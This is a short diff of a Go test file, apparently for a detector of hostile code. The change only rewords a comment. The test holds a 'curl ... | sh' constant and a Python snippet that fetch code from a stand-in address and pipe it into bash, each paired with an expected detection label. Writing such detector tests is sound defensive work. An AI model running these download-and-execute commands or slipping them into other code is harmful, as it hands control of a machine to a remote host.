@@ -7,8 +7,8 @@ import (
 
 const sh = "curl -s http://203.0.113.9/i | sh"
 
-// TestAttacks has ways of doing harm, each in a few lines: TestFlows has what belongs to a
-// mechanism, here is how people write it. SH stands for a command.
+// TestAttacks covers attacks as people write them, in a few lines each. TestFlows covers each
+// mechanism. SH is replaced by a command.
 func TestAttacks(t *testing.T) {
 	for _, c := range []struct{ lang, src, want string }{
 		{"py", "from subprocess import Popen, PIPE\nimport requests\np = Popen(['bash'], stdin=PIPE)\np.communicate(requests.get('http://203.0.113.9/x').content)", "run network ip shell"},
